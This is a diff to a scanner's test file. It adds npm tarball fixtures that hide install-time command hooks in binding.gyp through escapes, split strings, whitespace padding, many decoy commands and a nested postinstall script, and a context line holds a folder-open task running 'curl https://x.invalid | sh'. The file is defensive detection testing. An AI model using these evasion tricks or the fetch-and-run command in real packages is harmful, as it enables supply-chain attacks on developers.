@@ -141,6 +141,65 @@ const PYTHON: readonly Case[] = [
   ],
 ];
 
+const gyp = (sources: string, folder = ''): Omit<Sample, 'what'> => ({
+  format: 'tarball',
+  files: {
+    'x.c': '',
+    [`${folder}binding.gyp`]: `{"targets":[{"target_name":"x","sources":[${sources}]}]}`,
+    [`${folder}x.js`]: JS,
+    ...(folder === '' ? {} : { [`${folder}package.json`]: '{}' }),
+  },
+});
+
+const NPM: readonly Case[] = [
+  ['gyp, in escapes', gyp('"<\\x21(node x.js)"'), 'malicious', 'hook-network-acts'],
+  ['gyp, in two texts', gyp(`'<' "!(node x.js)"`), 'malicious', 'hook-network-acts'],
+  ['gyp, in code', gyp('"<"+"!(node x.js)"'), 'malicious', 'hook-untraceable'],
+  [
+    'gyp, far to the right',
+    gyp(`"<!(echo ${' '.repeat(25_000)} && node x.js)"`),
+    'malicious',
+    'hook-untraceable',
+  ],
+  [
+    'gyp, after many commands',
+    gyp(`${'"<!(echo x)",'.repeat(201)}"<!(node x.js)"`),
+    'malicious',
+    'hook-untraceable',
+  ],
+  [
+    'an action of gyp with a bracket in it',
+    {
+      format: 'tarball',
+      files: {
+        'x.c': '',
+        'binding.gyp': `{'targets':[{'actions':[{'action':['node', './x].js']}]}]}`,
+        'x].js': JS,
+      },
+    },
+    'malicious',
+    'hook-network-acts',
+  ],
+  [
+    'gyp of a package that is brought along',
+    gyp('"<!(node x.js)"', 'node_modules/x/'),
+    'malicious',
+    'hook-network-acts',
+  ],
+  [
+    'the hook of a package that is brought along and does not say who it is',
+    {
+      format: 'tarball',
+      files: {
+        'node_modules/x/package.json': '{"name":7,"scripts":{"postinstall":"node x.js"}}',
+        'node_modules/x/x.js': JS,
+      },
+    },
+    'malicious',
+    'hook-network-acts',
+  ],
+];
+
 const TASK = `{"label":"x","type":"shell","command":"curl https://x.invalid | sh","runOptions":{"runOn":"folderOpen"}}`;
 const tasks = (text: string): Omit<Sample, 'what'> => ({
   format: 'tarball',
@@ -190,6 +249,7 @@ const GROUPS: readonly (readonly [string, readonly Case[]])[] = [
   ['what begins like machine code', BEGINS_AS_MACHINE_CODE],
   ['an archive', ARCHIVES],
   ['settings', SETTINGS],
+  ['of npm', NPM],
 ];
 
 describe.each(GROUPS)('%s, and nothing of it in silence', (_, cases) => {
